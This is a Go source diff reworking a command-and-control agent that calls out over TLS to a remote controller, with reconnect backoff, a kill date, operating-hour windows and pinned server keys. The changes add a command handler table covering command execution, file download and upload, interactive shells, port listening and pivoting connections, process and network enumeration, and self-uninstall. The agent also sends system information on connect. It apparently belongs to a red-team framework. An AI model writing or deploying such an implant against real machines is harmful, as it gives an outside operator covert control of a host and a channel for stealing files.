@@ -7,18 +7,18 @@ import (
 	"crypto/x509"
 	"encoding/base64"
 	"encoding/hex"
+	"encoding/json"
 	"errors"
 	"github.com/nightlyone/lockfile"
-	"github.com/robfig/cron"
 	"github.com/xtaci/smux"
 	"io"
 	"net"
 	"os"
 	"path/filepath"
-	"runtime"
 	"strconv"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"time"
 )
 
@@ -28,35 +28,48 @@ var (
 	proxyUsername string
 	proxyPassword string
 	connectHost string
-	pubKeySum string
+	// Comma separated hashes of the server public keys the agent accepts
+	pubKeySums string
+	buildId string
+
+	// Base64 PEM client certificate and key issued to the build by the controller
+	clientCert string
+	clientKey string
+
+	// Reconnect policy in seconds, see newReconnectPolicy
+	reconnectInterval string
+	reconnectMaxInterval string
+	reconnectMaxRetries string
+
+	// Keepalive of the controller in seconds, see smuxConfig
+	keepaliveInterval string
+	keepaliveTimeout string
 
 	connTimeout = 60 * time.Second
-	connected = false
+
+	agentLock lockfile.Lockfile
 	)
 
 func main() {
-	lock, err := lockfile.New(filepath.Join(os.TempDir(), getLockfileName()))
+	err := loadSettings()
 	if err != nil {
 		return
 	}
+	agentScope = newScope()
 
-	err = lock.TryLock()
+	agentLock, err = lockfile.New(filepath.Join(os.TempDir(), getLockfileName()))
 	if err != nil {
 		return
 	}
 
-	defer lock.Unlock()
-
-	var wg sync.WaitGroup
-	wg.Add(1)
-
-	go serve()
+	err = agentLock.TryLock()
+	if err != nil {
+		return
+	}
 
-	c := cron.New()
-	c.AddFunc("0 * * * * *", serve)
-	c.Start()
+	defer agentLock.Unlock()
 
-	wg.Wait()
+	serve(newReconnectPolicy(), newLimits())
 }
 
 
@@ -65,60 +78,163 @@ func getLockfileName() string {
 	return "." + getHexSumFromString(connectHost + httpProxyHost + httpsProxyHost + proxyUsername + proxyPassword)
 }
 
-func serve() {
-	if connected {
-		return
-	}
-	connected = true
-
-	var wg sync.WaitGroup
-	wg.Add(1)
+/* ------------------
+  Serve
+ -------------------- */
 
-	a := NewAgent(&wg)
-	a.Start()
+// reconnectPolicy is set at build time. The delay between two connections
+// starts at interval and doubles after each failed attempt up to
+// maxInterval. The agent exits after maxRetries failed attempts in a row,
+// 0 for never.
+type reconnectPolicy struct {
+	interval time.Duration
+	maxInterval time.Duration
+	maxRetries int
+}
 
-	wg.Wait()
+func newReconnectPolicy() reconnectPolicy {
+	policy := reconnectPolicy{
+		interval: parseSeconds(reconnectInterval, 60*time.Second),
+		maxRetries: parseInt(reconnectMaxRetries, 0),
+	}
+	policy.maxInterval = parseSeconds(reconnectMaxInterval, policy.interval)
+	if policy.maxInterval < policy.interval {
+		policy.maxInterval = policy.interval
+	}
+	return policy
+}
 
-	connected = false
+// next returns the delay following delay.
+func (p reconnectPolicy) next(delay time.Duration) time.Duration {
+	delay *= 2
+	if delay > p.maxInterval {
+		delay = p.maxInterval
+	}
+	return delay
 }
 
-func getHexSum(value []byte) string {
-	hash := sha256.New()
-	hash.Write(value)
-	sum := hash.Sum(nil)
-	return hex.EncodeToString(sum)
+func parseInt(value string, defaultValue int) int {
+	result, err := strconv.Atoi(value)
+	if err != nil || result < 0 {
+		return defaultValue
+	}
+	return result
 }
 
-func getHexSumFromString(value string) string {
-	return getHexSum([]byte(value))
+func parseSeconds(value string, defaultValue time.Duration) time.Duration {
+	seconds := parseInt(value, 0)
+	if seconds == 0 {
+		return defaultValue
+	}
+	return time.Duration(seconds) * time.Second
 }
 
-func getSystemInfo() string {
-	var info string
+// smuxConfig matches the keepalive of the controller, the smux defaults
+// would close the session when the controller pings less often.
+func smuxConfig() *smux.Config {
+	interval := parseSeconds(keepaliveInterval, 10 * time.Second)
+	timeout := parseSeconds(keepaliveTimeout, 30 * time.Second)
 
-	info += runtime.GOOS + "|"
-	info += runtime.GOARCH + "|"
-	hostname, err := os.Hostname()
-	if err != nil {
-		hostname = "unknown"
+	config := smux.DefaultConfig()
+	config.KeepAliveInterval = interval
+	config.KeepAliveTimeout = timeout + interval
+	if smux.VerifyConfig(config) != nil {
+		return nil
 	}
+	return config
+}
 
-	info += hostname + "\n"
+type serveState int
 
-	return info
+const (
+	stateConnecting serveState = iota
+	stateConnected
+	stateWaiting
+	stateStopped
+)
+
+// serve connects to the controller and handles the session until the
+// policy gives up or the kill date is reached. It runs in a single
+// goroutine which owns the state.
+func serve(policy reconnectPolicy, limits limits) {
+	state := stateConnecting
+	delay := policy.interval
+	failures := 0
+
+	var a *Agent
+	for state != stateStopped {
+		switch state {
+		case stateConnecting:
+			if limits.expired(time.Now()) {
+				state = stateStopped
+				break
+			}
+
+			if wait := limits.untilWindow(time.Now()); wait > 0 {
+				limits.sleep(wait)
+				break
+			}
+
+			a = NewAgent()
+			err := a.connectToRemote()
+			if err == nil {
+				failures = 0
+				delay = policy.interval
+				state = stateConnected
+			} else {
+				failures++
+				state = stateWaiting
+				if policy.maxRetries > 0 && failures >= policy.maxRetries {
+					state = stateStopped
+				}
+			}
+
+		case stateConnected:
+			// Leave the controller at the end of the operating hours or at the kill date
+			if remaining, limited := limits.remaining(time.Now()); limited {
+				timer := time.AfterFunc(remaining, func() {
+					a.conn.Close()
+				})
+				a.handleSession()
+				timer.Stop()
+			} else {
+				a.handleSession()
+			}
+
+			state = stateWaiting
+			if limits.expired(time.Now()) {
+				state = stateStopped
+			}
+
+			switch action, leaveDelay := a.left(); action {
+			case leaveDisconnect:
+				if leaveDelay > 0 {
+					limits.sleep(leaveDelay)
+					state = stateConnecting
+				}
+			case leaveTerminate:
+				state = stateStopped
+			}
+
+		case stateWaiting:
+			limits.sleep(delay)
+			if failures > 0 {
+				delay = policy.next(delay)
+			}
+			state = stateConnecting
+		}
+	}
 }
 
-func readString(reader *bufio.Reader) string {
-	line, _, _ := reader.ReadLine()
-	return string(line)
+func getHexSum(value []byte) string {
+	hash := sha256.New()
+	hash.Write(value)
+	sum := hash.Sum(nil)
+	return hex.EncodeToString(sum)
 }
 
-func openNewStream(session *smux.Session) *smux.Stream {
-	stream, err := session.OpenStream()
-	if err != nil {
-		return nil
-	}
-	return stream
+func getHexSumFromString(value string) string {
+	return getHexSum([]byte(value))
 }
 
 func handleConnection(conn net.Conn, stream *smux.Stream) {
@@ -147,24 +263,59 @@ func handleConnection(conn net.Conn, stream *smux.Stream) {
   Agent
  -------------------- */
 
+type handler func(request *Request) (interface{}, error)
+
 type Agent struct {
-	wg *sync.WaitGroup
 	conn *tls.Conn
 	session *smux.Session
+
+	commandStream *smux.Stream
+	writeLock sync.Mutex
+
+	handlers map[string]handler
+
+	leaving leaveState
+
+	cancels map[uint32]func()
+	cancelsLock sync.Mutex
 }
 
-func NewAgent(wg *sync.WaitGroup) *Agent {
-	return &Agent{
-		wg: wg,
+func NewAgent() *Agent {
+	a := &Agent{
+		cancels: make(map[uint32]func()),
 	}
-}
 
-func (a *Agent) Start() {
-	err := a.connectToRemote()
-	if err == nil {
-		a.handleSession()
+	a.handlers = map[string]handler{
+		"execute":          a.execute,
+		"download":         a.download,
+		"upload":           a.upload,
+		"archive.download": a.downloadArchive,
+		"archive.upload":   a.uploadArchive,
+		"shell":            a.shell,
+		"shell.list":       a.listShells,
+		"shell.kill":       a.killShell,
+		"listen":           a.listen,
+		"connect":          a.connect,
+		"cancel":           a.cancel,
+		"ping":             a.ping,
+		"disconnect":       a.disconnect,
+		"terminate":        a.terminate,
+		"uninstall":        a.uninstall,
+		"fs.getwd":         a.getwd,
+		"fs.list":          a.listFiles,
+		"fs.stat":          a.statFile,
+		"fs.mkdir":         a.makeDir,
+		"fs.remove":        a.removeFile,
+		"fs.move":          a.moveFile,
+		"fs.chmod":         a.chmodFile,
+		"fs.touch":         a.touchFile,
+		"ps.list":          a.listProcesses,
+		"ps.kill":          a.killProcess,
+		"net.connections":  a.listConnections,
+		"net.interfaces":   a.listInterfaces,
 	}
-	a.wg.Done()
+
+	return a
 }
 
 func (a *Agent) connectToRemote() error {
@@ -173,8 +324,15 @@ func (a *Agent) connectToRemote() error {
 
 	config := tls.Config{ InsecureSkipVerify: true}
 
+	certificate, err := loadClientCertificate()
+	if err != nil {
+		return err
+	}
+	config.Certificates = []tls.Certificate{certificate}
+
 	if httpsProxyHost != "" {
-		rawConn, err = tls.Dial("tcp", httpsProxyHost, &config)
+		proxyConfig := tls.Config{ InsecureSkipVerify: true}
+		rawConn, err = tls.Dial("tcp", httpsProxyHost, &proxyConfig)
 		if err != nil {
 			return err
 		}
@@ -212,8 +370,21 @@ func (a *Agent) connectToRemote() error {
 	return err
 }
 
+func loadClientCertificate() (tls.Certificate, error) {
+	certPem, err := base64.StdEncoding.DecodeString(clientCert)
+	if err != nil {
+		return tls.Certificate{}, err
+	}
+
+	keyPem, err := base64.StdEncoding.DecodeString(clientKey)
+	if err != nil {
+		return tls.Certificate{}, err
+	}
+	return tls.X509KeyPair(certPem, keyPem)
+}
+
 func (a *Agent) checkServerPubKey() error {
-	if pubKeySum == "" {
+	if pubKeySums == "" {
 		return nil
 	}
 
@@ -225,10 +396,12 @@ func (a *Agent) checkServerPubKey() error {
 	key, _ := x509.MarshalPKIXPublicKey(a.conn.ConnectionState().PeerCertificates[0].PublicKey)
 	serverPubKeySum := getHexSum(key)
 
-	if !strings.EqualFold(pubKeySum, serverPubKeySum) {
-		return errors.New("")
+	for _, pubKeySum := range strings.Split(pubKeySums, ",") {
+		if strings.EqualFold(pubKeySum, serverPubKeySum) {
+			return nil
+		}
 	}
-	return nil
+	return errors.New("")
 }
 
 func (a *Agent) connectToProxy(conn net.Conn) error {
@@ -247,166 +420,194 @@ func (a *Agent) connectToProxy(conn net.Conn) error {
 
 func (a *Agent) handleSession() {
 
-	a.conn.Write([]byte("CONNECT / HTTP/1.1\n\n"))
-
 	defer a.conn.Close()
+	defer a.cancelAll()
 
-	var err error
+	err := a.authenticate()
+	if err != nil {
+		return
+	}
 
-	a.session, err = smux.Server(a.conn, nil)
+	a.session, err = smux.Server(a.conn, smuxConfig())
 	if err != nil {
 		return
 	}
 	defer a.session.Close()
 
-	inputCommandStream, err := a.session.AcceptStream()
+	a.commandStream, err = a.session.AcceptStream()
 	if err != nil {
 		return
 	}
-	defer inputCommandStream.Close()
+	defer a.commandStream.Close()
 
-	_, err = inputCommandStream.Write([]byte(getSystemInfo()))
+	err = a.handshake()
 	if err != nil {
 		return
 	}
 
-	reader := bufio.NewReader(inputCommandStream)
-
-	loop:
-	for true {
-
-		line, _, err := reader.ReadLine()
+	for {
+		message, err := readFrame(a.commandStream)
 		if err != nil {
 			break
 		}
 
-		command, _ := strconv.Atoi(string(line))
-		switch command {
-		case 0:
-			go a.execute(readString(reader))
-			break
-		case 1:
-			go a.download(readString(reader))
-			break
-		case 2:
-			go a.upload(readString(reader))
-			break
-		case 3:
-			go a.shell()
-			break
-		case 4:
-			go a.listen(readString(reader))
-			break
-		case 5:
-			go a.connect(readString(reader))
-			break
-		case 6:
-			break loop
-		default:
+		if message.Type == "close" {
 			break
 		}
+
+		go a.handleRequest(&Request{Message: message, agent: a})
 	}
 }
 
-func (a *Agent) listen(address string) {
-
-	listenCommandStream, err := a.session.OpenStream()
+func (a *Agent) handshake() error {
+	data, err := json.Marshal(getSystemInfo())
 	if err != nil {
-		return
+		return err
 	}
 
-	defer listenCommandStream.Close()
-
-	reader := bufio.NewReader(listenCommandStream)
+	err = writeFrame(a.commandStream, &Message{Type: "hello", Data: data})
+	if err != nil {
+		return err
+	}
 
-	ln, err := net.Listen("tcp", address)
+	reply, err := readFrame(a.commandStream)
 	if err != nil {
-		return
+		return err
 	}
 
-	defer ln.Close()
+	if reply.Status != statusOk {
+		return errors.New(reply.Error)
+	}
+	return nil
+}
 
-	for {
-		conn, err := ln.Accept()
-		if err != nil {
-			break
-		}
+func (a *Agent) handleRequest(request *Request) {
+	var result interface{}
+	var err error
 
-		_, err = listenCommandStream.Write([]byte("listen\n"))
-		if err != nil {
-			conn.Close()
-			break
-		}
+	if handler, ok := a.handlers[request.Type]; ok {
+		result, err = handler(request)
+	} else {
+		err = errors.New("unknown command " + request.Type)
+	}
 
-		_, _, err = reader.ReadLine()
-		if err != nil {
-			conn.Close()
-			break
-		}
+	a.cancelsLock.Lock()
+	delete(a.cancels, request.Id)
+	a.cancelsLock.Unlock()
 
-		stream, err := a.session.AcceptStream()
-		if err != nil {
-			conn.Close()
-			break
-		}
+	a.writeLock.Lock()
+	writeFrame(a.commandStream, request.reply(result, err))
+	a.writeLock.Unlock()
 
-		go handleConnection(conn, stream)
+	if request.afterReply != nil {
+		request.afterReply()
 	}
 }
 
-func (a *Agent) connect(address string) {
+// ping only answers, the controller uses it as keepalive.
+func (a *Agent) ping(request *Request) (interface{}, error) {
+	return nil, nil
+}
 
-	listenStream, err := a.session.OpenStream()
+func (a *Agent) cancel(request *Request) (interface{}, error) {
+	var params CancelParams
+	err := request.Params(&params)
 	if err != nil {
-		return
+		return nil, err
 	}
 
-	conn, err := net.Dial("tcp", string(address))
-	if err != nil {
-		listenStream.Close()
-		return
+	a.cancelsLock.Lock()
+	cancel, ok := a.cancels[params.Id]
+	a.cancelsLock.Unlock()
+
+	if !ok {
+		return nil, errors.New("unknown request")
 	}
 
-	go handleConnection(conn, listenStream)
+	cancel()
+	return nil, nil
 }
 
-func (a *Agent) download(filename string) {
+// cancelAll cancels the requests of the connection once it is lost, such
+// as listeners, the controller sends them again when it reconnects.
+func (a *Agent) cancelAll() {
+	a.cancelsLock.Lock()
+	cancels := a.cancels
+	a.cancels = make(map[uint32]func())
+	a.cancelsLock.Unlock()
 
-	stream := openNewStream(a.session)
+	for _, cancel := range cancels {
+		cancel()
+	}
+}
 
-	if  stream == nil {
-		return
+func (a *Agent) listen(request *Request) (interface{}, error) {
+	var params AddressParams
+	err := request.Params(&params)
+	if err != nil {
+		return nil, err
 	}
 
-	defer stream.Close()
+	err = agentScope.checkListen(params.Address)
+	if err != nil {
+		return nil, err
+	}
 
-	file, err := os.OpenFile(filename, os.O_RDONLY, 0755)
+	ln, err := net.Listen("tcp", params.Address)
 	if err != nil {
-		return
+		return nil, err
 	}
 
-	defer file.Close()
+	var canceled int32
+	request.OnCancel(func() {
+		atomic.StoreInt32(&canceled, 1)
+		ln.Close()
+	})
 
-	io.Copy(stream, file)
-}
+	defer ln.Close()
 
-func (a *Agent) upload(filename string) {
+	for {
+		conn, err := ln.Accept()
+		if err != nil {
+			if atomic.LoadInt32(&canceled) == 1 {
+				return nil, nil
+			}
+			return nil, err
+		}
 
-	stream := openNewStream(a.session)
+		stream, err := request.OpenStream()
+		if err != nil {
+			conn.Close()
+			return nil, err
+		}
 
-	if  stream == nil {
-		return
+		go handleConnection(conn, stream)
 	}
+}
 
-	defer stream.Close()
+func (a *Agent) connect(request *Request) (interface{}, error) {
+	var params AddressParams
+	err := request.Params(&params)
+	if err != nil {
+		return nil, err
+	}
 
-	file, err := os.OpenFile(filename, os.O_RDWR|os.O_CREATE, 0755)
+	err = agentScope.checkAddress(params.Address)
 	if err != nil {
-		return
+		return nil, err
 	}
 
-	defer file.Close()
+	conn, err := net.Dial("tcp", params.Address)
+	if err != nil {
+		return nil, err
+	}
 
-	io.Copy(file, stream)
+	stream, err := request.OpenStream()
+	if err != nil {
+		conn.Close()
+		return nil, err
+	}
 
-}
\ No newline at end of file
+	handleConnection(conn, stream)
+	return nil, nil
+}